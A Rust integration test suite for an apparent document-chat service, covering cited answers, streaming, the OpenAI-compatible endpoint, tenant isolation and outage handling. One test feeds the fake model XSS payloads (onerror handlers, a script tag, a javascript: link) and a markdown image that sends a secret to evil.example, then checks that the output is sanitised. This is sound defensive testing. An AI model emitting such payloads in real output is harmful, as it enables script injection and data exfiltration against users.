//! Cited chat with bots through HTTP, against the fake OpenAI-compatible server: JSON and
//! streamed answers, citation validation, "I don't know", the extractive fallback without a
//! model, the seed alias `/api/chat`, the OpenAI-compatible `/v1/chat/completions`, tenants.

mod common;

use std::time::Duration;

use common::{TestApp, assert_error, spawn_app_with, with_llm};
use docent_fake_openai::{CHAT_MODEL, FakeConfig, FakeServer};
use reqwest::StatusCode;
use serde_json::{Value, json};

const FRANCE: &[u8] =
    b"# Geography notes\n\nThe capital of France is Paris. Paris lies on the Seine river.\n\n\
## Rivers\n\nThe Loire is the longest river in France, flowing for 1006 kilometres.\n";
const COOKING: &[u8] =
    b"# Kitchen\n\nA souffle needs whisked egg whites folded gently into the base.\n";

/// A collection with the two documents, processed, and a bot over it.
async fn bot_over_docs(app: &TestApp) -> (String, String, String) {
    let coll = app.create_collection("notes").await;
    let france = app.upload_ok(&coll, "france.md", FRANCE).await;
    app.upload_ok(&coll, "cooking.md", COOKING).await;
    app.drain().await;
    let (status, bot) = app
        .post_json(
            "/api/v1/bots",
            json!({"name": "geo", "collection_ids": [coll], "system_prompt": "Be brief."}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{bot}");
    (bot["id"].as_str().unwrap().to_owned(), coll, france)
}

async fn chat_requests(fake: &FakeServer) -> usize {
    fake.log()
        .iter()
        .filter(|e| e.path == "/v1/chat/completions")
        .count()
}

#[tokio::test]
async fn a_bot_answers_with_citations_and_keeps_the_conversation() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, france) = bot_over_docs(&app).await;

    let (status, r) = app
        .post_json(
            &format!("/api/v1/bots/{bot}/chat"),
            json!({"message": "What is the capital of France?"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["answered_by"], "model");
    assert_eq!(r["model"], CHAT_MODEL);
    let answer = r["answer"].as_str().unwrap();
    assert!(answer.contains("Paris"), "{answer}");
    assert!(answer.contains("[1]"), "{answer}");
    let cited = r["citations"].as_array().unwrap();
    assert!(!cited.is_empty(), "{r}");
    assert_eq!(cited[0]["document_id"], france.as_str());
    assert_eq!(cited[0]["filename"], "france.md");
    assert!(cited[0]["char_end"].as_u64() > cited[0]["char_start"].as_u64());
    assert!(r["usage"]["total_tokens"].as_u64().unwrap() > 0, "{r}");
    // Every cited marker is one of the sources.
    let sources = r["sources"].as_array().unwrap().len() as u64;
    assert!(
        cited
            .iter()
            .all(|c| (1..=sources).contains(&c["marker"].as_u64().unwrap()))
    );

    // The conversation holds both turns, the answer with its citations.
    let conv = r["conversation_id"].as_str().unwrap();
    let (status, msgs) = app
        .get(&format!("/api/v1/conversations/{conv}/messages"))
        .await;
    assert_eq!(status, StatusCode::OK, "{msgs}");
    let items = msgs["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{msgs}");
    assert_eq!(items[0]["role"], "user");
    assert_eq!(items[1]["role"], "assistant");
    assert_eq!(items[1]["content"], r["answer"]);
    assert!(!items[1]["citations"].as_array().unwrap().is_empty());

    // A follow-up in the same conversation.
    let (status, r2) = app
        .post_json(
            &format!("/api/v1/bots/{bot}/chat"),
            json!({"message": "Which river is the longest in France?", "conversation_id": conv}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r2}");
    assert_eq!(r2["conversation_id"], conv);
    assert!(r2["answer"].as_str().unwrap().contains("Loire"), "{r2}");
    let (_, msgs) = app
        .get(&format!("/api/v1/conversations/{conv}/messages"))
        .await;
    assert_eq!(msgs["items"].as_array().unwrap().len(), 4);
    app.stop().await;
}

/// Parses a server-sent event stream into (event, data) pairs.
fn sse_events(body: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for block in body.split("\n\n") {
        let mut event = String::from("message");
        let mut data = Vec::new();
        for line in block.lines() {
            if let Some(v) = line.strip_prefix("event:") {
                event = v.trim().to_owned();
            } else if let Some(v) = line.strip_prefix("data:") {
                data.push(v.strip_prefix(' ').unwrap_or(v).to_owned());
            }
        }
        if !data.is_empty() {
            out.push((event, data.join("\n")));
        }
    }
    out
}

#[tokio::test]
async fn a_streamed_answer_is_the_same_answer_in_pieces() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, _) = bot_over_docs(&app).await;
    let r = app
        .client
        .post(app.url(&format!("/api/v1/bots/{bot}/chat")))
        .header("accept", "text/event-stream")
        .json(&json!({"message": "What is the capital of France?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/event-stream")
    );
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(
        events.first().map(|e| e.0.as_str()),
        Some("start"),
        "{events:?}"
    );
    assert_eq!(
        events.last().map(|e| e.0.as_str()),
        Some("done"),
        "{events:?}"
    );
    let start: Value = serde_json::from_str(&events[0].1).unwrap();
    assert!(!start["sources"].as_array().unwrap().is_empty());
    let streamed: String = events
        .iter()
        .filter(|e| e.0 == "delta")
        .map(|e| {
            serde_json::from_str::<Value>(&e.1).unwrap()["text"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let done: Value = serde_json::from_str(&events.last().unwrap().1).unwrap();
    assert_eq!(done["answer"].as_str().unwrap(), streamed);
    assert!(streamed.contains("Paris. [1]"), "{streamed}");
    assert_eq!(done["conversation_id"], start["conversation_id"]);
    app.stop().await;
}

/// The `[n]` numbers in an answer.
fn markers_in(answer: &str) -> Vec<u64> {
    answer
        .split('[')
        .skip(1)
        .filter_map(|s| s.split_once(']')?.0.parse().ok())
        .collect()
}

#[tokio::test]
async fn a_streams_start_announces_every_source_its_answer_cites() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    // With a model, and without one (the extractive answer, which quotes sentences).
    for with_model in [true, false] {
        let app = if with_model {
            spawn_app_with(with_llm(&fake)).await
        } else {
            spawn_app_with(|_| {}).await
        };
        let (bot, _, _) = bot_over_docs(&app).await;
        for question in [
            "What is the capital of France?",
            "Which river is the longest in France, and what is its capital?",
        ] {
            let r = app
                .client
                .post(app.url(&format!("/api/v1/bots/{bot}/chat")))
                .json(&json!({"message": question, "stream": true}))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK);
            let events = sse_events(&r.text().await.unwrap());
            let start: Value = serde_json::from_str(&events[0].1).unwrap();
            let done: Value = serde_json::from_str(&events.last().unwrap().1).unwrap();
            assert_eq!(
                (events[0].0.as_str(), events.last().unwrap().0.as_str()),
                ("start", "done"),
                "{events:?}"
            );
            let announced = start["sources"].as_array().unwrap();
            let cited = done["citations"].as_array().unwrap();
            assert!(!cited.is_empty(), "model {with_model}: {done}");
            for c in cited {
                let s = announced
                    .iter()
                    .find(|s| s["marker"] == c["marker"])
                    .unwrap_or_else(|| panic!("model {with_model}: {c} not in {start}"));
                assert_eq!(
                    s, c,
                    "model {with_model}: the source as `start` announced it"
                );
            }
            for n in markers_in(done["answer"].as_str().unwrap()) {
                assert!(
                    announced.iter().any(|s| s["marker"] == n),
                    "model {with_model}: [{n}] of {done} not in {start}"
                );
            }
            assert_eq!(
                start["sources"], done["sources"],
                "model {with_model}: `done` lists the sources `start` did"
            );
        }
        app.stop().await;
    }
}

#[tokio::test]
async fn markers_of_unretrieved_sources_and_raw_html_never_reach_the_answer() {
    let fake = FakeServer::start(FakeConfig {
        // Issue 21 M3: a tag longer than the filter's window arrives over many deltas (it
        // used to come out whole, as text); images become links, script links lose their
        // target.
        fixed_reply: Some(format!(
            "Paris [1]. Also [7] <img src=x\nonerror=alert(1)>and <script>steal()</script>done. \
             <img title=\"{pad}\" onerror=alert(2)> \
             ![t](https://evil.example/x.png?q=secret) [a](javascript:alert(1))",
            pad = "a ".repeat(150)
        )),
        ..FakeConfig::default()
    })
    .await
    .unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, _) = bot_over_docs(&app).await;
    for stream in [false, true] {
        let r = app
            .client
            .post(app.url(&format!("/api/v1/bots/{bot}/chat")))
            .json(&json!({"message": "What is the capital of France?", "stream": stream}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        let body = r.text().await.unwrap();
        let reply: Value = if stream {
            serde_json::from_str(&sse_events(&body).last().unwrap().1).unwrap()
        } else {
            serde_json::from_str(&body).unwrap()
        };
        let answer = reply["answer"].as_str().unwrap();
        assert_eq!(
            answer,
            format!(
                "Paris [1]. Also  and steal()done. < img title=\"{pad}\" onerror=alert(2)> \
                 ! [t](https://evil.example/x.png?q=secret) [a]",
                pad = "a ".repeat(150)
            ),
            "stream {stream}"
        );
        let markers: Vec<u64> = reply["citations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["marker"].as_u64().unwrap())
            .collect();
        assert_eq!(markers, vec![1]);
    }
    app.stop().await;
}

#[tokio::test]
async fn nothing_relevant_means_i_dont_know_without_asking_the_model() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, _) = bot_over_docs(&app).await;
    let before = chat_requests(&fake).await;
    let (status, r) = app
        .post_json(
            &format!("/api/v1/bots/{bot}/chat"),
            json!({"message": "quantum chromodynamics lattice gluon"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["answered_by"], "no_answer");
    assert_eq!(r["answer"], docent_core::chat::NO_ANSWER);
    assert!(r["citations"].as_array().unwrap().is_empty());
    assert_eq!(
        chat_requests(&fake).await,
        before,
        "the model was not called"
    );

    // A bot over no collection knows nothing either.
    let (_, empty) = app
        .post_json("/api/v1/bots", json!({"name": "empty"}))
        .await;
    let (status, r) = app
        .post_json(
            &format!("/api/v1/bots/{}/chat", empty["id"].as_str().unwrap()),
            json!({"message": "What is the capital of France?"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["answered_by"], "no_answer");
    app.stop().await;
}

#[tokio::test]
async fn without_a_model_the_answer_is_extractive_in_the_same_shape() {
    let app = spawn_app_with(|_| {}).await;
    let (bot, _, france) = bot_over_docs(&app).await;
    let (status, r) = app
        .post_json(
            &format!("/api/v1/bots/{bot}/chat"),
            json!({"message": "What is the capital of France?"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["answered_by"], "extractive");
    assert!(r["model"].is_null());
    let answer = r["answer"].as_str().unwrap();
    assert!(answer.contains("capital of France is Paris"), "{answer}");
    assert!(answer.contains("[1]"), "{answer}");
    assert_eq!(r["citations"][0]["document_id"], france.as_str());
    // The cited span is the quoted sentence.
    let c = &r["citations"][0];
    let len = c["char_end"].as_u64().unwrap() - c["char_start"].as_u64().unwrap();
    assert_eq!(len as usize, c["quote"].as_str().unwrap().chars().count());
    app.stop().await;
}

#[tokio::test]
async fn bad_requests_get_clear_errors_and_other_tenants_bots_are_not_found() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, _) = bot_over_docs(&app).await;
    let path = format!("/api/v1/bots/{bot}/chat");
    let (status, body) = app.post_json(&path, json!({"message": "  "})).await;
    assert_error(status, &body, 400, "invalid_field");
    let (status, body) = app.post_json(&path, json!({"question": "x"})).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let (status, body) = app
        .post_json(&path, json!({"message": "hi", "conversation_id": "nope"}))
        .await;
    assert_error(status, &body, 400, "invalid_field");
    let unknown = uuid::Uuid::now_v7();
    let (status, body) = app
        .post_json(
            &format!("/api/v1/bots/{unknown}/chat"),
            json!({"message": "hi"}),
        )
        .await;
    assert_error(status, &body, 404, "bot_not_found");
    let (status, body) = app
        .post_json(
            &path,
            json!({"message": "hi", "conversation_id": unknown.to_string()}),
        )
        .await;
    assert_error(status, &body, 404, "conversation_not_found");

    // Another tenant's bot (seen through the service, as a second tenant).
    let other = docent_domain::TenantId::new();
    app.services
        .store
        .ensure_tenant(other, "other")
        .await
        .unwrap();
    let bot_id: docent_domain::BotId = bot.parse().unwrap();
    let err = app
        .services
        .chat(
            other,
            bot_id,
            docent_core::chat::ChatInput::new("capital of France?"),
        )
        .await
        .unwrap_err();
    assert_eq!(err.code, docent_domain::Code::BotNotFound);
    app.stop().await;
}

#[tokio::test]
async fn the_seed_chat_route_behaves_like_the_main_one() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, france) = bot_over_docs(&app).await;
    let (status, r) = app
        .post_json(
            "/api/chat",
            json!({"bot_id": bot, "message": "What is the capital of France?"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["citations"][0]["document_id"], france.as_str());
    let (status, body) = app
        .post_json("/api/chat", json!({"bot_id": "x", "message": "hi"}))
        .await;
    assert_error(status, &body, 400, "invalid_field");
    app.stop().await;
}

#[tokio::test]
async fn openai_compatible_completions_talk_to_a_bot_by_id_or_name() {
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let (bot, _, france) = bot_over_docs(&app).await;
    for model in [bot.as_str(), "geo"] {
        let (status, r) = app
            .post_json(
                "/v1/chat/completions",
                json!({
                    "model": model,
                    "messages": [
                        {"role": "system", "content": "ignored: the bot has its own"},
                        {"role": "user", "content": [{"type": "text", "text": "What is the capital of France?"}]}
                    ]
                }),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{r}");
        assert_eq!(r["object"], "chat.completion");
        assert_eq!(r["model"], model);
        assert_eq!(r["choices"][0]["message"]["role"], "assistant");
        let content = r["choices"][0]["message"]["content"].as_str().unwrap();
        assert!(content.contains("Paris. [1]"), "{content}");
        assert_eq!(r["citations"][0]["document_id"], france.as_str());
        assert!(r["usage"]["total_tokens"].as_u64().unwrap() > 0);
    }
    // Streamed: chunks, then [DONE].
    let r = app
        .client
        .post(app.url("/v1/chat/completions"))
        .json(&json!({"model": "geo", "stream": true,
            "messages": [{"role": "user", "content": "What is the capital of France?"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(events.last().unwrap().1, "[DONE]");
    let mut text = String::new();
    for (_, data) in &events[..events.len() - 1] {
        let chunk: Value = serde_json::from_str(data).unwrap();
        assert_eq!(chunk["object"], "chat.completion.chunk");
        if let Some(t) = chunk["choices"][0]["delta"]["content"].as_str() {
            text.push_str(t);
        }
    }
    assert!(text.contains("Paris. [1]"), "{text}");
    let last: Value = serde_json::from_str(&events[events.len() - 2].1).unwrap();
    assert_eq!(last["choices"][0]["finish_reason"], "stop");

    // An unknown bot name, and no user message.
    let (status, body) = app
        .post_json(
            "/v1/chat/completions",
            json!({"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]}),
        )
        .await;
    assert_error(status, &body, 404, "bot_not_found");
    let (status, body) = app
        .post_json(
            "/v1/chat/completions",
            json!({"model": "geo", "messages": [{"role": "system", "content": "hi"}]}),
        )
        .await;
    assert_error(status, &body, 400, "invalid_field");

    // Issue 21 (low): the history was unbounded. Too many messages, or too much text, is a
    // 400 before the model is asked.
    let asked = chat_requests(&fake).await;
    let turn = |i: usize| json!({"role": if i.is_multiple_of(2) { "user" } else { "assistant" }, "content": "hi"});
    let many: Vec<Value> = (0..=100).map(turn).collect();
    let long = vec![json!({"role": "user", "content": "x".repeat(200_001)})];
    for messages in [many, long] {
        let (status, body) = app
            .post_json(
                "/v1/chat/completions",
                json!({"model": "geo", "messages": messages}),
            )
            .await;
        assert_error(status, &body, 400, "invalid_field");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("`messages`")
        );
    }
    assert_eq!(chat_requests(&fake).await, asked, "the model was not asked");
    app.stop().await;
}

#[tokio::test]
async fn a_provider_outage_is_a_clear_503_not_a_hang() {
    // A port nothing listens on: the budgeted client retries, then gives up.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    drop(listener);
    let app = spawn_app_with(move |c| {
        c.llm = docent_config::LlmConfig::Openai {
            base_url: format!("http://127.0.0.1:{port}/v1"),
            model: CHAT_MODEL.into(),
            api_key: Some("sk-canary-never-shown".to_owned().into()),
            api_key_file: None,
            requests_per_second: 50.0,
            tokens_per_minute: None,
            tenant_share: 0.5,
            request_timeout: Duration::from_secs(2),
        };
    })
    .await;
    let (bot, _, _) = bot_over_docs(&app).await;
    let started = std::time::Instant::now();
    let r = app
        .client
        .post(app.url(&format!("/api/v1/bots/{bot}/chat")))
        .json(&json!({"message": "What is the capital of France?"}))
        .send()
        .await
        .unwrap();
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(r.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert!(r.headers().contains_key("retry-after"));
    let body = r.text().await.unwrap();
    assert!(body.contains("model_unavailable"), "{body}");
    assert!(!body.contains("sk-canary"), "{body}");
    app.stop().await;
}

/// The official `openai` Python package as a real client (`DOCENT_TEST_OPENAI_PYTHON`: a
/// Python with it installed; `scripts/test-services` provides one).
#[tokio::test]
async fn the_official_openai_python_sdk_talks_to_a_bot() {
    let Some(python) = std::env::var_os("DOCENT_TEST_OPENAI_PYTHON") else {
        eprintln!("skipped: DOCENT_TEST_OPENAI_PYTHON not set (run scripts/test-services)");
        return;
    };
    let fake = FakeServer::start(FakeConfig::default()).await.unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    bot_over_docs(&app).await;
    let script = r#"
import json, sys
from openai import OpenAI
client = OpenAI(base_url=sys.argv[1] + "/v1", api_key="unused-in-mode-none", max_retries=0)
whole = client.chat.completions.create(
    model="geo", messages=[{"role": "user", "content": "What is the capital of France?"}])
parts = []
for chunk in client.chat.completions.create(
        model="geo", stream=True,
        messages=[{"role": "user", "content": "What is the capital of France?"}]):
    if chunk.choices and chunk.choices[0].delta.content:
        parts.append(chunk.choices[0].delta.content)
try:
    client.chat.completions.create(model="no-such-bot", messages=[{"role": "user", "content": "hi"}])
    missing = None
except Exception as e:
    missing = type(e).__name__
print(json.dumps({
    "whole": whole.choices[0].message.content,
    "finish": whole.choices[0].finish_reason,
    "total_tokens": whole.usage.total_tokens,
    "streamed": "".join(parts),
    "missing": missing,
}))
"#;
    let r = common::run_python(&python, script, &app.base).await;
    assert!(r["whole"].as_str().unwrap().contains("Paris. [1]"), "{r}");
    assert_eq!(r["finish"], "stop");
    assert!(r["total_tokens"].as_u64().unwrap() > 0, "{r}");
    assert_eq!(r["streamed"], r["whole"], "{r}");
    assert_eq!(r["missing"], "NotFoundError", "{r}");
    app.stop().await;
}

#[tokio::test]
async fn summaries_are_written_by_the_model_map_reduce_when_one_is_configured() {
    let fake = FakeServer::start(FakeConfig {
        fixed_reply: Some("The document lists topics by section.".into()),
        ..FakeConfig::default()
    })
    .await
    .unwrap();
    let app = spawn_app_with(with_llm(&fake)).await;
    let cid = app.create_collection("long").await;
    // About 40 000 characters: several windows, then one reduce call.
    let did = app
        .upload_ok(&cid, "long.md", &common::markdown_doc(3, 120))
        .await;
    app.drain().await;
    let (mut s, mut sum) = app.get(&format!("/api/v1/documents/{did}/summary")).await;
    if s == StatusCode::ACCEPTED {
        app.drain().await;
        (s, sum) = app.get(&format!("/api/v1/documents/{did}/summary")).await;
    }
    assert_eq!(s, StatusCode::OK, "{sum}");
    assert_eq!(sum["summary"], "The document lists topics by section.");
    assert_eq!(sum["method"], format!("llm:{CHAT_MODEL}"));
    let calls = chat_requests(&fake).await;
    assert!(
        calls >= 4,
        "map calls per window and a reduce call: {calls}"
    );
    // Cached: no more model calls.
    let (_, again) = app.get(&format!("/api/v1/documents/{did}/summary")).await;
    assert_eq!(again, sum);
    assert_eq!(chat_requests(&fake).await, calls);
    app.stop().await;
}
